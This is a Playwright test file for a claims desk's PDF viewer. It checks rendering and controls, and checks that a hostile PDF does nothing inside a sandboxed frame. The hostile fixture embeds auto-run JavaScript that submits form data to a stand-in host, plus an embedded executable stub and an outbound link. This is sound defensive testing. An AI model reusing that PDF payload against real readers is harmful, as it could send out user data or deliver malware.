import { pdfOfPaper } from '@gadget-claims/api/seed/claims/papers';
import { PDF_PAGES, pdfOf } from '@gadget-claims/api/test/files';
import type { Page } from '@playwright/test';
import { logsInAs } from '../support/desk.ts';
import { aClaimWithFile } from '../support/evidence.ts';
import { expect, test as base } from '../support/fixtures.ts';

const PAPER = await pdfOfPaper('Invoice', ['A new screen', '£ 189.00']);

/** The desk at a claim whose claimant sent a PDF. */
const test = base.extend<{ atPdf: (instead?: Buffer) => Promise<void> }>({
  atPdf: async ({ request, page, policyOf, db }, use) => {
    const file = { name: 'invoice.pdf', mimeType: 'application/pdf', buffer: PAPER };
    const { claimReference } = await aClaimWithFile({ request, policyOf, db }, file);
    await logsInAs(page, /Morag/);
    await use(async (instead) => {
      if (instead) {
        await page.route(/\/desk\/evidence\/[^/]+$/, (route) =>
          route.fulfill({ contentType: 'application/pdf', body: instead }),
        );
      }
      await page.goto(`/desk/c/${claimReference}`);
      await expect(page.getByRole('article')).toBeVisible();
    });
  },
});

const evidence = (page: Page) => page.getByRole('region', { name: 'Evidence' });
const paper = (page: Page) => evidence(page).getByRole('img', { name: /page \d+$/ });

/** How many colours the drawn page has. */
const coloursOf = (page: Page) =>
  paper(page).evaluate((canvas: HTMLCanvasElement) => {
    const { data } = canvas.getContext('2d')!.getImageData(0, 0, canvas.width, canvas.height);
    return new Set(new Uint32Array(data.buffer)).size;
  });

test('a PDF is drawn page by page, zoomed and turned by keys', async ({
  page,
  atPdf,
  expectAccessible,
}) => {
  await atPdf();
  await expect(paper(page)).toBeVisible();
  await expect(evidence(page)).toContainText('Page 1 of 1');
  expect(await coloursOf(page)).toBeGreaterThan(10);
  const strip = evidence(page).getByRole('group', { name: 'Files' });
  await expect
    .poll(() =>
      strip.locator('img').evaluateAll(([image]) => (image as HTMLImageElement)?.naturalWidth),
    )
    .toBe(224);
  await page.keyboard.press('z');
  await page.keyboard.press('z');
  await expect(evidence(page).getByRole('button', { name: 'Zoom 2×' })).toBeVisible();
  await expect.poll(() => paper(page).evaluate((it: HTMLCanvasElement) => it.width)).toBe(3_200);
  await page.keyboard.press('r');
  await expect
    .poll(() => paper(page).evaluate((it: HTMLCanvasElement) => it.width > it.height))
    .toBe(true);
  await expectAccessible();
});

/** All that a file can try, on a page with a black square. None of it would be taken from a claimant. */
const HOSTILE = pdfOf(
  '<</Type/Catalog/Pages 2 0 R/OpenAction 5 0 R/AcroForm<</XFA 6 0 R>>/Names<</JavaScript<</Names[(a) 5 0 R]>>/EmbeddedFiles<</Names[(b) 7 0 R]>>>>>>',
  PDF_PAGES,
  '<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Contents 4 0 R/AA<</O 5 0 R>>/Annots[8 0 R]>>',
  '<</Length 19>>stream\n0 0 100 100 re f   \nendstream',
  '<</S/JavaScript/JS(app.alert\\(1\\); this.submitForm\\("https://bad.example"\\))>>',
  '<</Length 56>>stream\n<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"></xdp:xdp>\nendstream',
  '<</Type/Filespec/F(a.exe)/EF<</F 9 0 R>>>>',
  '<</Type/Annot/Subtype/Link/Rect[0 0 200 200]/A<</S/URI/URI(https://bad.example)>>>>',
  '<</Type/EmbeddedFile/Length 2>>stream\nMZ\nendstream',
);

test('a hostile PDF is drawn and does nothing, in a frame that reaches no address', async ({
  page,
  atPdf,
}) => {
  const happened: string[] = [];
  page.on('dialog', (dialog) => {
    happened.push(dialog.message());
    void dialog.dismiss();
  });
  page.on('popup', (popup) => happened.push(popup.url()));
  page.on('download', (download) => happened.push(download.url()));
  page.on('request', (request) => {
    const { host, protocol } = new URL(request.url());
    if (protocol.startsWith('http') && host !== new URL(page.url()).host) happened.push(host);
  });
  await atPdf(HOSTILE);
  await expect(paper(page)).toBeVisible();
  expect(await coloursOf(page)).toBeGreaterThan(1);
  await paper(page).click();
  const viewer = page.frame({ url: /\/desk\/viewer$/ });
  const reached = await viewer?.evaluate(() => {
    const tried = (look: () => unknown) => {
      try {
        return String(look());
      } catch (error) {
        return (error as Error).name;
      }
    };
    return {
      origin: window.origin,
      desk: tried(() => window.parent.document.title),
      cookies: tried(() => document.cookie),
      storage: tried(() => window.localStorage.length),
    };
  });
  const kept = 'SecurityError';
  expect(reached).toEqual({ origin: 'null', desk: kept, cookies: kept, storage: kept });
  expect(page.context().pages()).toEqual([page]);
  expect(happened).toEqual([]);
  const { headers } = await page.request.get('/desk/viewer').then((answer) => ({
    headers: answer.headers(),
  }));
  expect(headers['content-security-policy']).toMatch(
    /^sandbox allow-scripts; default-src 'none'; script-src 'self' 'wasm-unsafe-eval'; worker-src blob:;/,
  );
});
